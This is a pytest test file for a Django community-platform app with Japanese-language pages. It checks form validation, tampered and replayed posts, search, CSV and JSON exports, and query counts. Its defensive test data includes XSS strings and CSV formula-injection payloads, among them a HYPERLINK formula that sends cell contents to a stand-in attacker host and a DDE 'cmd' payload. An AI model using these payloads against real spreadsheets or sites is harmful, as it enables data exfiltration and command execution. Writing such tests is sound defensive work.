"""Pages and forms: what people see, bad input, tampered fields, replayed posts,
search, exports and query counts."""

import csv
import io
import json
from datetime import timedelta

import pytest
import time_machine
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from members.models import OrganisationKind
from platforms import services
from platforms.models import JoinRequest, Membership, Platform, PlatformEvent, Role, Status
from platforms.services.lifecycle import refresh_search_text
from tests.factories import (
    OrganisationFactory,
    PlatformFactory,
    UserFactory,
    goal_of,
    member_of,
    organisation_member,
)

pytestmark = pytest.mark.django_db


def launch_post(**overrides):
    data = {
        "name": "地域特産品コミュニティビジネス",
        "purpose": "作業所と農家で特産品を作る",
        "why": "作業所の仕事が減った",
        "who": "NPOと作業所",
        "where": "駅前マルシェ",
        "area": "大阪府豊中市",
        "deadline": (timezone.localdate() + timedelta(days=90)).isoformat(),
        "what": "試作と販売",
        "how": "月2回の企画会議",
        "budget": "500000",
        "funding": "助成金",
        "visibility": "public",
        "goals-TOTAL_FORMS": "3",
        "goals-INITIAL_FORMS": "0",
        "goals-MIN_NUM_FORMS": "0",
        "goals-MAX_NUM_FORMS": "10",
        "goals-0-title": "マルシェ出店",
        "goals-0-target_value": "6",
        "goals-0-unit": "回",
    }
    return data | overrides


def errors_of(response):
    form = response.context["form"]
    return {field: [str(e) for e in errors] for field, errors in form.errors.items()}


# --- launch ------------------------------------------------------------------------


def test_platform_create_launches_draft_and_redirects(client):
    user = UserFactory()
    client.force_login(user)

    response = client.post(reverse("platforms:platform-create"), launch_post())

    platform = Platform.objects.get()
    assert response.status_code == 302
    assert response.url == platform.get_absolute_url()
    assert platform.status == Status.DRAFT
    assert list(platform.goals.values_list("title", "target_value", "unit")) == [
        ("マルシェ出店", 6, "回")
    ]
    page = client.get(platform.get_absolute_url())
    assert "プラットフォームを下書きとして作りました。" in page.content.decode()


def test_platform_create_keeps_the_name_as_typed_and_reads_full_width_numbers(client):
    client.force_login(UserFactory())

    client.post(
        reverse("platforms:platform-create"),
        launch_post(name="ＮＰＯ連携（２０２６）！", budget="５００００"),
    )

    platform = Platform.objects.get()
    assert (platform.name, platform.budget) == ("ＮＰＯ連携（２０２６）！", 50000)
    # Search folds widths, so the name is found either way.
    assert "npo連携(2026)!" in platform.search_text


@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        ({"name": ""}, "name", "このフィールドは必須です。"),
        ({"name": "   "}, "name", "このフィールドは必須です。"),
        (
            {"name": "あ" * 101},
            "name",
            "この値は 100 文字以下でなければなりません( 101 文字になっています)。",
        ),
        ({"budget": "たくさん"}, "budget", "整数を入力してください。"),
        ({"budget": "-5"}, "budget", "この値は 0 以上でなければなりません。"),
        ({"deadline": "来月"}, "deadline", "日付を正しく入力してください。"),
        (
            {"deadline": (timezone.localdate() - timedelta(days=1)).isoformat()},
            "deadline",
            "期限に過去の日付は指定できません。今日以降の日付を入力してください。",
        ),
        (
            {"purpose": "<script>alert(1)</script>"},
            "purpose",
            "HTMLタグやスクリプトは使えません。文章だけを入力してください。",
        ),
        (
            {"visibility": "secret"},
            "visibility",
            "正しく選択してください。 secret は候補にありません。",
        ),
    ],
)
def test_platform_create_bad_input_is_refused_with_message_and_saves_nothing(
    client, overrides, field, message
):
    client.force_login(UserFactory())

    response = client.post(reverse("platforms:platform-create"), launch_post(**overrides))

    assert response.status_code == 400
    assert errors_of(response)[field] == [message]
    assert Platform.objects.count() == 0
    assert message in response.content.decode()


def test_platform_create_half_filled_goal_is_refused(client):
    client.force_login(UserFactory())

    response = client.post(
        reverse("platforms:platform-create"),
        launch_post(**{"goals-0-target_value": ""}),
    )

    assert response.status_code == 400
    assert response.context["goals"].errors[0] == {"target_value": ["目標値を入れてください。"]}
    assert Platform.objects.count() == 0


def test_platform_create_tampered_goal_count_is_refused(client):
    client.force_login(UserFactory())

    response = client.post(
        reverse("platforms:platform-create"), launch_post(**{"goals-TOTAL_FORMS": "5000"})
    )

    assert response.status_code == 400
    assert Platform.objects.count() == 0


def test_platform_create_in_english(client):
    client.force_login(UserFactory())

    response = client.post(
        reverse("platforms:platform-create"), launch_post(name=""), HTTP_ACCEPT_LANGUAGE="en"
    )

    assert errors_of(response)["name"] == ["This field is required."]


# --- charter edit ---------------------------------------------------------------------


def test_platform_edit_keeps_deadline_that_has_passed_when_unchanged(client, coordinator):
    platform = PlatformFactory(
        status=Status.ACTIVE, deadline=timezone.localdate() - timedelta(days=3)
    )
    member_of(platform, coordinator, Role.COORDINATOR)
    client.force_login(coordinator)
    data = {k: v for k, v in launch_post().items() if not k.startswith("goals")}
    data["deadline"] = platform.deadline.isoformat()

    response = client.post(reverse("platforms:platform-edit", args=[platform.pk]), data)

    assert response.status_code == 302
    platform.refresh_from_db()
    assert platform.name == "地域特産品コミュニティビジネス"
    assert platform.revisions.get().changed_fields[0] == "name"


def test_platform_edit_bad_input_keeps_stored_charter(client, coordinator, platform):
    client.force_login(coordinator)
    before = platform.name
    data = {
        k: v
        for k, v in launch_post(name="", what="<b>太字</b>").items()
        if not k.startswith("goals")
    }

    response = client.post(reverse("platforms:platform-edit", args=[platform.pk]), data)

    assert response.status_code == 400
    assert set(errors_of(response)) == {"name", "what"}
    platform.refresh_from_db()
    assert platform.name == before
    assert platform.revisions.count() == 0


# --- lifecycle through the page ---------------------------------------------------------


def test_platform_transition_shows_refusal_reason(client, coordinator, platform):
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:platform-transition", args=[platform.pk]),
        {"to_status": "archived"},
        follow=True,
    )

    assert "「募集中」から「アーカイブ済み」には進めません。" in response.content.decode()
    platform.refresh_from_db()
    assert platform.status == Status.RECRUITING


def test_platform_transition_tampered_status_is_refused(client, coordinator, platform):
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:platform-transition", args=[platform.pk]),
        {"to_status": "deleted"},
        follow=True,
    )

    assert "指定された状態はありません。" in response.content.decode()
    platform.refresh_from_db()
    assert platform.status == Status.RECRUITING


def test_platform_transition_replayed_post_does_not_repeat(client, coordinator, platform):
    client.force_login(coordinator)
    url = reverse("platforms:platform-transition", args=[platform.pk])

    client.post(url, {"to_status": "active"})
    replay = client.post(url, {"to_status": "active"}, follow=True)

    assert "「活動中」から「活動中」には進めません。" in replay.content.decode()
    assert platform.events.filter(kind=PlatformEvent.Kind.STATUS_CHANGED).count() == 1


def test_platform_page_shows_lifecycle_steps_with_who(client, coordinator, platform):
    services.platform_transition(actor=coordinator, platform=platform, to_status=Status.ACTIVE)

    page = client.get(platform.get_absolute_url()).content.decode()

    assert "活動中" in page
    assert "（コーディネーター）" in page


def test_evaluation_requires_outcome(client, coordinator):
    platform = PlatformFactory(status=Status.GOAL_MET)
    member_of(platform, coordinator, Role.COORDINATOR)
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:platform-evaluation", args=[platform.pk]),
        {"outcome": "", "learned": "x"},
    )

    assert response.status_code == 400
    assert errors_of(response)["outcome"] == ["このフィールドは必須です。"]
    platform.refresh_from_db()
    assert (platform.outcome, platform.learned) == ("", "")


def test_close_and_archive_through_pages(client, coordinator):
    platform = PlatformFactory(status=Status.ACTIVE)
    member_of(platform, coordinator, Role.COORDINATOR)
    client.force_login(coordinator)
    transition = reverse("platforms:platform-transition", args=[platform.pk])

    client.post(transition, {"to_status": "goal_met"})
    client.post(
        reverse("platforms:platform-evaluation", args=[platform.pk]),
        {
            "outcome": "5人が体験した",
            "learned": "同行が大事",
            "continues": "見学会",
            "carried_by": "社協",
        },
    )
    client.post(transition, {"to_status": "archived"})

    platform.refresh_from_db()
    assert (platform.status, platform.outcome) == (Status.ARCHIVED, "5人が体験した")
    page = client.get(platform.get_absolute_url()).content.decode()
    assert "アーカイブされています" in page
    assert "5人が体験した" in page
    for control in (
        "edit-charter",
        "write-evaluation",
        "to-",
        "退出する",
        "目標を追加",
        "招待する",
    ):
        assert control not in page


# --- goals -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"title": "体験", "target_value": "0", "current_value": "0"}, "target_value"),
        ({"title": "体験", "target_value": "5", "current_value": "-1"}, "current_value"),
        ({"title": "体験", "target_value": "五", "current_value": "1"}, "target_value"),
        ({"title": "", "target_value": "5", "current_value": "1"}, "title"),
    ],
)
def test_goal_edit_bad_input(client, coordinator, platform, data, field):
    goal = goal_of(platform, current=2)
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:goal-edit", args=[platform.pk, goal.pk]), data | {"unit": "人"}
    )

    assert response.status_code == 400
    assert field in errors_of(response)
    goal.refresh_from_db()
    assert (goal.target_value, goal.current_value) == (5, 2)


def test_goal_of_another_platform_is_404(client, coordinator, platform):
    other_goal = goal_of(PlatformFactory())
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:goal-edit", args=[platform.pk, other_goal.pk]),
        {"title": "x", "target_value": "1", "current_value": "1"},
    )

    assert response.status_code == 404
    other_goal.refresh_from_db()
    assert other_goal.title != "x"


# --- joining ---------------------------------------------------------------------------


def test_join_request_empty_message_is_refused(client, platform, stranger):
    client.force_login(stranger)

    response = client.post(
        reverse("platforms:join-request-create", args=[platform.pk]), {"message": " "}
    )

    assert response.status_code == 400
    assert errors_of(response)["message"] == ["このフィールドは必須です。"]
    assert JoinRequest.objects.count() == 0


def test_join_request_tampered_organisation_is_refused(client, platform, stranger):
    foreign = OrganisationFactory()
    client.force_login(stranger)

    response = client.post(
        reverse("platforms:join-request-create", args=[platform.pk]),
        {"message": "参加したい", "organisation": str(foreign.pk)},
    )

    assert response.status_code == 400
    assert errors_of(response)["organisation"] == ["所属している団体の名義でだけ申請できます。"]
    assert JoinRequest.objects.count() == 0


def test_join_request_on_behalf_of_own_organisation_then_approved(
    client, coordinator, platform, stranger
):
    organisation = OrganisationFactory(
        name="藤里町商工会", kind=OrganisationKind.CHAMBER_OF_COMMERCE
    )
    organisation_member(stranger, organisation)
    client.force_login(stranger)
    client.post(
        reverse("platforms:join-request-create", args=[platform.pk]),
        {"message": "事業所を紹介できます", "organisation": str(organisation.pk)},
    )
    join_request = JoinRequest.objects.get()
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:join-request-decide", args=[platform.pk, join_request.pk]),
        {"decision": "approve"},
        follow=True,
    )

    assert f"{stranger.name} さんの参加を承認しました。" in response.content.decode()
    membership = Membership.objects.get(platform=platform, user=stranger)
    assert membership.organisation == organisation
    page = client.get(platform.get_absolute_url()).content.decode()
    assert "藤里町商工会" in page


def test_join_request_decide_replayed_and_tampered(client, coordinator, platform, stranger):
    join_request = services.join_request_create(
        actor=stranger, platform=platform, message="参加したい"
    )
    client.force_login(coordinator)
    url = reverse("platforms:join-request-decide", args=[platform.pk, join_request.pk])

    tampered = client.post(url, {"decision": "maybe"}, follow=True)
    client.post(url, {"decision": "decline", "reason": "定員です"})
    replay = client.post(url, {"decision": "approve"}, follow=True)

    assert "正しく選択してください。" in tampered.content.decode()
    assert "この参加申請はすでに処理されています。" in replay.content.decode()
    join_request.refresh_from_db()
    assert (join_request.status, join_request.decline_reason) == (
        JoinRequest.Status.DECLINED,
        "定員です",
    )
    assert not Membership.objects.filter(user=stranger).exists()


def test_join_request_of_another_platform_is_404(client, coordinator, platform):
    other = PlatformFactory()
    foreign_request = services.join_request_create(
        actor=UserFactory(), platform=other, message="参加したい"
    )
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:join-request-decide", args=[platform.pk, foreign_request.pk]),
        {"decision": "approve"},
    )

    assert response.status_code == 404
    foreign_request.refresh_from_db()
    assert foreign_request.status == JoinRequest.Status.PENDING


# --- invitations -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"email": "not-an-email", "role": "member"}, "email"),
        ({"email": "", "role": "member"}, "email"),
        ({"email": "a@example.jp", "role": "owner"}, "role"),
        (
            {"email": "a@example.jp", "role": "member", "message": "<img src=x onerror=alert(1)>"},
            "message",
        ),
    ],
)
def test_invitation_bad_input(client, coordinator, platform, data, field):
    client.force_login(coordinator)

    response = client.post(reverse("platforms:invitation-list", args=[platform.pk]), data)

    assert response.status_code == 400
    assert field in errors_of(response)
    assert platform.invitations.count() == 0


def test_invitation_to_existing_member_is_refused(client, coordinator, platform, member):
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:invitation-list", args=[platform.pk]),
        {"email": member.email.upper(), "role": "member"},
    )

    assert errors_of(response)["email"] == ["この方はすでに参加者です。"]


def test_invitation_accept_through_page_and_replay(client, coordinator, platform):
    invitee = UserFactory(email="invitee@example.jp")
    invitation = services.invitation_create(
        actor=coordinator, platform=platform, email=invitee.email
    )
    client.force_login(invitee)
    url = reverse("platforms:invitation-respond", args=[invitation.token])

    response = client.post(url, {"answer": "accept"})
    replay = client.post(url, {"answer": "accept"})

    assert response.status_code == 302
    assert response.url == platform.get_absolute_url()
    assert replay.status_code == 400
    assert "この招待にはすでに返事をしています。" in replay.content.decode()
    assert Membership.objects.filter(platform=platform, user=invitee).count() == 1


def test_an_invitation_opened_with_another_account_says_so_and_can_be_accepted(
    client, coordinator, platform, stranger
):
    invitation = services.invitation_create(
        actor=coordinator, platform=platform, email="other@example.jp"
    )
    client.force_login(stranger)

    page = client.get(reverse("platforms:invitation-detail", args=[invitation.token]))
    response = client.post(
        reverse("platforms:invitation-respond", args=[invitation.token]), {"answer": "accept"}
    )

    assert "other@example.jp あてに送られました" in page.content.decode()
    assert response.status_code == 302
    assert Membership.objects.filter(user=stranger, platform=platform).exists()
    client.force_login(coordinator)
    listing = client.get(reverse("platforms:invitation-list", args=[platform.pk])).content.decode()
    assert "other@example.jp" in listing and f"{stranger.name} さんが参加" in listing


def test_coordinators_can_copy_the_link_and_resend(client, coordinator, platform):
    with time_machine.travel(timezone.now() - timedelta(hours=1)):
        invitation = services.invitation_create(
            actor=coordinator, platform=platform, email="line@example.jp"
        )
    client.force_login(coordinator)
    listing = reverse("platforms:invitation-list", args=[platform.pk])

    html = client.get(listing).content.decode()
    resent = client.post(
        reverse("platforms:invitation-resend", args=[platform.pk, invitation.pk]), follow=True
    )

    assert f"http://testserver{invitation.get_absolute_url()}" in html
    assert "line@example.jp に招待を送り直しました。" in resent.content.decode()


def test_signing_up_from_an_invitation_starts_with_its_address(client, coordinator, platform):
    invitation = services.invitation_create(
        actor=coordinator, platform=platform, email="invited@example.jp"
    )

    client.get(reverse("platforms:invitation-detail", args=[invitation.token]))
    form = client.get(reverse("account_signup")).content.decode()

    assert 'value="invited@example.jp"' in form


def test_invitation_unknown_token_is_404(client):
    assert client.get(reverse("platforms:invitation-detail", args=["nope"])).status_code == 404


def test_invitation_revoked_shows_so(client, coordinator, platform):
    invitation = services.invitation_create(
        actor=coordinator, platform=platform, email="r@example.jp"
    )
    services.invitation_revoke(actor=coordinator, invitation=invitation)

    page = client.get(invitation.get_absolute_url()).content.decode()

    assert "この招待は取り消されました。" in page


def test_invitation_answer_tampered(client, coordinator, platform):
    invitee = UserFactory(email="t@example.jp")
    invitation = services.invitation_create(
        actor=coordinator, platform=platform, email=invitee.email
    )
    client.force_login(invitee)

    response = client.post(
        reverse("platforms:invitation-respond", args=[invitation.token]), {"answer": "yes"}
    )

    assert response.status_code == 400
    invitation.refresh_from_db()
    assert invitation.status == "pending"


# --- members ---------------------------------------------------------------------------


def test_role_change_tampered_role_is_refused(client, coordinator, platform, member):
    membership = Membership.objects.get(user=member)
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:membership-role", args=[platform.pk, membership.pk]),
        {"role": "admin"},
        follow=True,
    )

    assert "指定された役割はありません。" in response.content.decode()
    membership.refresh_from_db()
    assert membership.role == Role.MEMBER


def test_membership_of_another_platform_is_404(client, coordinator, platform):
    foreign = member_of(PlatformFactory(), UserFactory())
    client.force_login(coordinator)

    response = client.post(reverse("platforms:membership-remove", args=[platform.pk, foreign.pk]))

    assert response.status_code == 404
    assert Membership.objects.filter(pk=foreign.pk).exists()


def test_last_coordinator_leave_shows_why(client, coordinator, platform):
    client.force_login(coordinator)

    response = client.post(reverse("platforms:membership-leave", args=[platform.pk]), follow=True)

    assert "最後のコーディネーターは抜けられません。" in response.content.decode()
    assert Membership.objects.filter(user=coordinator).exists()


def test_huge_ids_are_404_not_500(client, coordinator, platform):
    client.force_login(coordinator)

    assert client.get("/platforms/99999999999999999999999/").status_code == 404
    assert (
        client.post(f"/platforms/{platform.pk}/goals/99999999999999999999999/delete/").status_code
        == 404
    )


# --- lists, search and dashboard -----------------------------------------------------


def test_platform_list_shows_only_public_recruiting_and_active():
    shown = {
        PlatformFactory(name="募集中の場", status=Status.RECRUITING).name,
        PlatformFactory(name="活動中の場", status=Status.ACTIVE).name,
    }
    PlatformFactory(name="下書きの場", status=Status.DRAFT)
    PlatformFactory(name="非公開の場", status=Status.ACTIVE, visibility="private")
    PlatformFactory(name="終わった場", status=Status.ARCHIVED)
    from django.test import Client

    response = Client().get(reverse("platforms:platform-list"))

    assert {p.name for p in response.context["page"]} == shown


def _search_platform(name, **kwargs):
    platform = PlatformFactory(name=name, **kwargs)
    refresh_search_text(platform)
    platform.save()
    return platform


def test_platform_search_folds_kana_and_width(client):
    _search_platform("ボランティア募集のひろば", area="豊中市")
    _search_platform("商品開発", area="藤里町")

    for query in ("ぼらんてぃあ", "ﾎﾞﾗﾝﾃｨｱ", "ボランティア"):
        response = client.get(reverse("platforms:platform-list"), {"q": query})
        assert [p.name for p in response.context["page"]] == ["ボランティア募集のひろば"]


def test_platform_search_by_area_and_organisation_kind(client):
    fujisato = _search_platform("職場体験", area="秋田県藤里町")
    _search_platform("特産品", area="大阪府豊中市")
    chamber = OrganisationFactory(kind=OrganisationKind.CHAMBER_OF_COMMERCE)
    member_of(fujisato, UserFactory(), organisation=chamber)

    by_area = client.get(reverse("platforms:platform-list"), {"area": "藤里"})
    by_kind = client.get(reverse("platforms:platform-list"), {"kind": "chamber_of_commerce"})
    bad_kind = client.get(reverse("platforms:platform-list"), {"kind": "<script>"})

    assert [p.name for p in by_area.context["page"]] == ["職場体験"]
    assert [p.name for p in by_kind.context["page"]] == ["職場体験"]
    assert bad_kind.status_code == 200
    assert bad_kind.context["page"].paginator.count == 2


def test_platform_list_is_paginated(client):
    for n in range(25):
        PlatformFactory(name=f"場{n:02d}")

    first = client.get(reverse("platforms:platform-list"))
    second = client.get(reverse("platforms:platform-list"), {"page": "2"})
    junk = client.get(reverse("platforms:platform-list"), {"page": "abc"})

    assert len(first.context["page"]) == 20
    assert len(second.context["page"]) == 5
    assert junk.context["page"].number == 1


def test_archive_list_shows_public_and_my_private_archived(client, stranger):
    PlatformFactory(name="公開のアーカイブ", status=Status.ARCHIVED)
    mine = PlatformFactory(name="参加した非公開", status=Status.ARCHIVED, visibility="private")
    PlatformFactory(name="他人の非公開", status=Status.ARCHIVED, visibility="private")
    member_of(mine, stranger)
    client.force_login(stranger)

    response = client.get(reverse("platforms:platform-archive"))

    assert sorted(p.name for p in response.context["page"]) == [
        "公開のアーカイブ",
        "参加した非公開",
    ]


def test_dashboard_shows_my_platforms_and_what_awaits_me(client, coordinator, platform):
    goal_of(platform, target=5, current=2)
    services.join_request_create(
        actor=UserFactory(display_name="申請者"), platform=platform, message="参加したい"
    )
    other = PlatformFactory(name="招待された場")
    member_of(other, UserFactory(), Role.COORDINATOR)
    services.invitation_create(
        actor=other.memberships.get().user, platform=other, email=coordinator.email
    )
    client.force_login(coordinator)

    response = client.get(reverse("platforms:dashboard"))

    page = response.content.decode()
    assert [p.name for p in response.context["platforms"]] == [platform.name]
    assert [r.user.name for r in response.context["to_decide"]] == ["申請者"]
    assert [i.platform.name for i in response.context["invitations"]] == ["招待された場"]
    assert "2/5人" in page
    assert "申請1件" in page


# --- exports ---------------------------------------------------------------------------


def test_export_json_and_csv(client, coordinator):
    platform = PlatformFactory(status=Status.ARCHIVED, outcome="3人が就職", name="若者サポート")
    member_of(platform, coordinator, Role.COORDINATOR)
    goal_of(platform, title="就職した若者", target=3, current=3)
    client.force_login(coordinator)

    as_json = client.get(reverse("platforms:platform-export", args=[platform.pk, "json"]))
    as_csv = client.get(reverse("platforms:platform-export", args=[platform.pk, "csv"]))

    data = json.loads(as_json.content)
    assert data["charter"]["name"] == "若者サポート"
    assert data["evaluation"]["outcome"] == "3人が就職"
    assert data["goals"] == [
        {"title": "就職した若者", "unit": "人", "target_value": 3, "current_value": 3}
    ]
    assert data["members"][0]["role"] == "coordinator"
    assert coordinator.email not in as_json.content.decode()
    assert as_csv.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert rows[0] == ["区分", "項目", "内容", "補足"]
    assert ["憲章", "名称", "若者サポート", ""] in rows
    assert ["目標", "就職した若者", "3 / 3人", ""] in rows
    # Words people use, not internal codes.
    assert ["参加者", coordinator.name, "コーディネーター", ""] in rows
    assert ["憲章", "状態", "アーカイブ済み", ""] in rows
    assert ["憲章", str(Platform._meta.get_field("visibility").verbose_name), "公開", ""] in rows
    assert as_csv["Content-Disposition"] == f'attachment; filename="platform-{platform.pk}.csv"'


# --- query counts --------------------------------------------------------------------


def _crowd(platform, n):
    for _ in range(n):
        member_of(platform, UserFactory(), organisation=OrganisationFactory())
        goal_of(platform)


@pytest.mark.parametrize("size", [2, 40])
def test_platform_page_query_count_does_not_grow(
    client, django_assert_max_num_queries, coordinator, platform, size
):
    _crowd(platform, size)
    client.force_login(coordinator)

    with django_assert_max_num_queries(16):
        response = client.get(platform.get_absolute_url())

    assert len(response.context["memberships"]) == size + 1


@pytest.mark.parametrize("size", [2, 40])
def test_platform_list_query_count_does_not_grow(client, django_assert_max_num_queries, size):
    platforms = [PlatformFactory() for _ in range(size)]
    for platform in platforms:
        goal_of(platform)

    with django_assert_max_num_queries(6):
        response = client.get(reverse("platforms:platform-list"))

    listed = [p.pk for p in response.context["page"]]
    assert len(listed) == min(size, settings.PAGE_SIZE)
    assert set(listed) <= {p.pk for p in platforms}
    assert all(p.name in response.content.decode() for p in response.context["page"])


@pytest.mark.parametrize("size", [2, 30])
def test_dashboard_query_count_does_not_grow(client, django_assert_max_num_queries, stranger, size):
    for _ in range(size):
        platform = PlatformFactory()
        member_of(platform, stranger)
        goal_of(platform)
    client.force_login(stranger)

    with django_assert_max_num_queries(12):
        response = client.get(reverse("platforms:dashboard"))

    assert len(response.context["platforms"]) == size


def test_invitation_page_for_closed_platform_says_so(client, coordinator):
    platform = PlatformFactory(status=Status.ACTIVE)
    member_of(platform, coordinator, Role.COORDINATOR)
    invitation = services.invitation_create(
        actor=coordinator, platform=platform, email="c@example.jp"
    )
    services.platform_transition(actor=coordinator, platform=platform, to_status=Status.GOAL_MET)

    page = client.get(invitation.get_absolute_url()).content.decode()

    assert "このプラットフォームは今は参加を受け付けていません。" in page
    assert "accept-invitation" not in page


def test_revoke_and_withdraw_replayed(client, coordinator, platform, stranger):
    invitation = services.invitation_create(
        actor=coordinator, platform=platform, email="r@example.jp"
    )
    join_request = services.join_request_create(
        actor=stranger, platform=platform, message="参加したい"
    )
    revoke = reverse("platforms:invitation-revoke", args=[platform.pk, invitation.pk])
    withdraw = reverse("platforms:join-request-withdraw", args=[platform.pk, join_request.pk])

    client.force_login(coordinator)
    client.post(revoke)
    revoke_again = client.post(revoke, follow=True)
    client.force_login(stranger)
    client.post(withdraw)
    withdraw_again = client.post(withdraw, follow=True)

    assert "この招待はすでに使われたか、取り消されています。" in revoke_again.content.decode()
    assert "この参加申請はすでに処理されています。" in withdraw_again.content.decode()
    assert platform.events.filter(kind=PlatformEvent.Kind.INVITATION_REVOKED).count() == 1
    assert platform.events.filter(kind=PlatformEvent.Kind.JOIN_WITHDRAWN).count() == 1


def test_admin_lists_and_edits_for_staff_only(client, coordinator, platform, stranger):
    staff = UserFactory(is_staff=True, is_superuser=True)
    services.join_request_create(actor=stranger, platform=platform, message="参加したい")
    services.invitation_create(actor=coordinator, platform=platform, email="a@example.jp")
    pages = [
        reverse(f"admin:{app}_{model}_changelist")
        for app, model in [
            ("members", "user"),
            ("members", "organisation"),
            ("platforms", "platform"),
            ("platforms", "joinrequest"),
            ("platforms", "invitation"),
            ("platforms", "platformevent"),
            ("platforms", "charterrevision"),
        ]
    ] + [
        reverse("admin:platforms_platform_change", args=[platform.pk]),
        reverse("admin:members_user_change", args=[coordinator.pk]),
    ]

    client.force_login(stranger)
    refused = [client.get(page).status_code for page in pages]
    client.force_login(staff)
    allowed = [client.get(page).status_code for page in pages]

    assert refused == [302] * len(pages)
    assert allowed == [200] * len(pages)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_csv_export_writes_formulas_as_text(client, crew, board, columns):
    """A member's card title (and any other cell) that a spreadsheet would evaluate
    reaches the coordinator's CSV as text."""
    from tasks.models import Card

    for n, formula in enumerate(FORMULAS):
        Card.objects.create(board=board, column=columns[0], position=f"a{n}", title=formula)
    Card.objects.create(board=board, column=columns[0], position="b0", title="普通の-カード")
    client.force_login(crew["coordinator"])

    response = client.get(reverse("platforms:platform-export", args=[board.platform_id, "csv"]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    titles = [row[1] for row in rows if row[0] == "カード"]
    assert sorted(titles) == sorted(["'" + f for f in FORMULAS] + ["普通の-カード"])
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")] == []


def test_outsiders_see_organisations_coordinators_and_counts_not_who_takes_part(client):
    """A member may be a person receiving support: outsiders never learn who takes
    part, who applied, who was declined or removed."""
    from members.models import Organisation

    platform = PlatformFactory(status=Status.ACTIVE)
    coordinator = UserFactory(display_name="連絡先の佐藤")
    member_of(platform, coordinator, Role.COORDINATOR)
    supported = UserFactory(display_name="支援を受ける山田")
    removed = UserFactory(display_name="外された田中")
    declined = UserFactory(display_name="見送られた鈴木")
    pending = UserFactory(display_name="申請中の高橋")
    organisation = Organisation.objects.create(name="みなと商工会", created_by=coordinator)
    for person in (supported, removed, declined, pending):
        request = services.join_request_create(actor=person, platform=platform, message="参加希望")
        if person is not pending:
            services.join_request_decide(
                actor=coordinator, join_request=request, approve=person is not declined
            )
    Membership.objects.filter(user=supported).update(organisation=organisation)
    services.membership_remove(actor=coordinator, membership=Membership.objects.get(user=removed))
    services.membership_role_change(
        actor=coordinator, membership=Membership.objects.get(user=supported), role=Role.OBSERVER
    )
    people = [supported, removed, declined, pending]
    pages = {}
    for name, viewer in (("anonymous", None), ("stranger", UserFactory()), ("member", supported)):
        client.logout()
        if viewer is not None:
            client.force_login(viewer)
        pages[name] = "".join(
            client.get(reverse(url, args=[platform.pk])).content.decode()
            for url in ("platforms:platform-detail", "platforms:platform-history")
        )

    for outsider in ("anonymous", "stranger"):
        page = pages[outsider]
        assert [p.display_name for p in people if p.display_name in page] == []
        assert "連絡先の佐藤" in page
        assert "みなと商工会" in page
        assert "参加者（2人）" in page
        assert "参加している方のお名前は、参加者だけが見られます。" in page
    # A member sees who takes part, not who applied, was declined or removed.
    assert "支援を受ける山田" in pages["member"]
    assert [
        n for n in ("外された田中", "見送られた鈴木", "申請中の高橋") if n in pages["member"]
    ] == []


def test_an_invitation_typed_in_full_width_reaches_the_address(
    client, coordinator, platform, django_capture_on_commit_callbacks
):
    """An IME left on gives 「ｎｅｗｃｏｍｅｒ＠example.jp」: the same address."""
    from django.core import mail

    client.force_login(coordinator)
    mail.outbox.clear()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("platforms:invitation-list", args=[platform.pk]),
            {"email": "ｎｅｗｃｏｍｅｒ＠ｅｘａｍｐｌｅ．ｊｐ", "role": Role.MEMBER, "message": ""},
        )

    assert response.status_code == 302
    assert [m.to for m in mail.outbox] == [["newcomer@example.jp"]]
    assert platform.invitations.get().email == "newcomer@example.jp"


def test_csv_history_says_what_happened_in_words(client, coordinator, platform):
    services.platform_transition(actor=coordinator, platform=platform, to_status=Status.ACTIVE)
    client.force_login(coordinator)

    response = client.get(reverse("platforms:platform-export", args=[platform.pk, "csv"]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    history = [row[2] for row in rows if row[0] == "履歴"]
    assert "状態の変更：募集中 → 活動中" in history
    assert not [
        cell for row in rows for cell in row if cell in ("status.changed", "coordinator", "public")
    ]


def test_a_failed_charter_lists_every_problem_at_the_top_with_links(client, coordinator):
    client.force_login(coordinator)

    response = client.post(
        reverse("platforms:platform-create"), launch_post(name="", purpose="", why="")
    )
    html = response.content.decode()

    assert response.status_code == 400
    summary = html[
        html.index('class="error-summary"') : html.index(
            "</div>", html.index('class="error-summary"')
        )
    ]
    assert 'role="alert" tabindex="-1" data-error-summary' in summary
    assert "入力内容を確認してください（3か所）" in summary
    for field in ("id_name", "id_purpose", "id_why"):
        assert f'href="#{field}"' in summary
    assert html.index('class="error-summary"') < html.index('id="id_name"')
    assert html.count('class="error-summary"') == 1  # the goal forms below add none
    assert "js/forms.js" in html


def test_an_archived_platform_no_longer_describes_itself_as_open_to_applications(client, stranger):
    platform = PlatformFactory(status=Status.ARCHIVED)
    client.force_login(stranger)

    html = client.get(platform.get_absolute_url()).content.decode()

    assert "誰でも参加を申請できる" not in html
    assert 'data-testid="ask-to-join"' not in html
    assert '<span data-testid="visibility">公開</span>' in html


def test_only_coordinators_resend_invitations(client, coordinator, platform, member, stranger):
    with time_machine.travel(timezone.now() - timedelta(hours=1)):
        invitation = services.invitation_create(
            actor=coordinator, platform=platform, email="x@example.jp"
        )
    url = reverse("platforms:invitation-resend", args=[platform.pk, invitation.pk])
    before = invitation.expires_at

    anonymous = client.post(url)
    answers = {}
    for who, person in (("member", member), ("stranger", stranger)):
